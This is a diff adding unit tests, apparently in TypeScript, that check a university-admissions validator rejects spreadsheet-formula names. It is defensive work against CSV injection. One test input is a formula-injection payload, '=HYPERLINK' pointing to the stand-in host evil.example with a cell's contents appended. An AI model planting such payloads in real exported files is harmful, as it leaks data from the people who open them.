@@ -14,6 +14,7 @@ import {
 } from './guide';
 import { missingOf, valueOf } from './result';
 import { admissionFields } from '../catalog';
+import { FORMULA_NAME_MESSAGE } from '../csv';
 
 const fullUniversity = {
   university_code: 'GUC',
@@ -164,6 +165,37 @@ describe('validateOffering', () => {
     });
     expect(valueOf(r).section).toBe('رياضيات أو علوم');
     expect(valueOf(r).programs).toBe('الطب، الجراحة');
+  });
+});
+
+describe('names that a spreadsheet would run (issue 20)', () => {
+  const offering = { faculty: 'كلية الطب', faculty_short: 'MED', section: 'science', normal_or_Dual: 'normal' };
+  it.each([
+    ['university_Arabic_Name', '=HYPERLINK("http://evil.example/?d="&A2,"x")'],
+    ['university_Arabic_Name', '@SUM(1,2)'],
+  ])('a university whose %s is %j is refused', (field, name) => {
+    expect(problemsOf(validateUniversity({ ...fullUniversity, [field]: name }, 'add', 'private'))).toEqual([
+      { field, message: FORMULA_NAME_MESSAGE },
+    ]);
+  });
+  it.each([
+    ['faculty', '=HYPERLINK("http://evil.example/?d="&A2,"x")'],
+    ['faculty', '+كلية'],
+    ['section_custom', '-1+1'],
+  ])('an offering whose %s is %j is refused', (field, name) => {
+    const input =
+      field === 'section_custom'
+        ? { ...offering, section: 'other', section_custom: name }
+        : { ...offering, [field]: name };
+    expect(problemsOf(validateOffering(input))).toEqual([{ field, message: FORMULA_NAME_MESSAGE }]);
+  });
+  it.each(['dorm', 'transport'] as const)('a %s whose type starts with @ is refused', (kind) => {
+    expect(problemsOf(validatePlace({ type: '@x', price: '100' }, kind))).toEqual([
+      { field: 'type', message: FORMULA_NAME_MESSAGE },
+    ]);
+  });
+  it('a name with a dash inside is kept', () => {
+    expect(problemsOf(validateOffering({ ...offering, faculty: 'كلية الطب - جامعة القاهرة' }))).toEqual([]);
   });
 });
 
